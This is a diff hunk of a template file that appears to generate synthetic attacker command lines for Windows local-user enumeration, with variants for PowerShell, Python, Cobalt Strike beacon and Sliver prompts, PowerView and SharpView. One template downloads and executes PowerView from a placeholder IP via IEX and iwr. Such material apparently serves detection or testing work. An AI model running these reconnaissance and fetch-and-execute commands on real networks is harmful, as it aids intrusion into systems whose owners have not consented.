@@ -114,7 +114,7 @@ ps-principal-load powershell: [void][Reflection.Assembly]::LoadWithPartialName('
 ps-netuserenum powershell: [«Netapi32¦Win32¦‹Word›»]::NetUserEnum($null, 0, 2, [ref]$buf, -1, [ref]$r, [ref]$t, [ref]$h)
 ps-netuserenum-type powershell: Add-Type -MemberDefinition '[DllImport("netapi32.dll")] public static extern int NetUserEnum(string s, int l, int f, out IntPtr b, int m, out int r, out int t, int h);' -Name ‹Word› -Namespace Win32
 netuserenum-python cmd: «python¦py» -c "import win32net; print(win32net.NetUserEnum(«None¦'‹server›'», 0))"
-netuserenum-beacon text: «beacon¦sliver (‹word›)¦[server] sliver (‹word›)» > «inline-execute ¦»netuserenum«.o¦ \\\\‹server›¦»
+netuserenum-beacon text: «beacon¦sliver (‹word›)¦[server] sliver (‹word›)» > «inline-execute ¦»netuserenum«.o¦ \\‹server›¦»
 netuserenum-tool cmd: ‹dir›\«NetUserEnum¦netuserenum».exe «\\‹server›¦localhost¦»
 ps-powerview-local powershell: «Get-NetLocalUser -ComputerName ‹server›¦Import-Module .\PowerView.ps1; Get-NetLocalUser¦IEX (iwr http://‹ip›/PowerView.ps1); Get-NetLocalUser¦Get-NetLocalUser | select UserName,SID»
 sharpview-local cmd: ‹dir›\SharpView.exe Get-NetLocalUser -ComputerName ‹server›
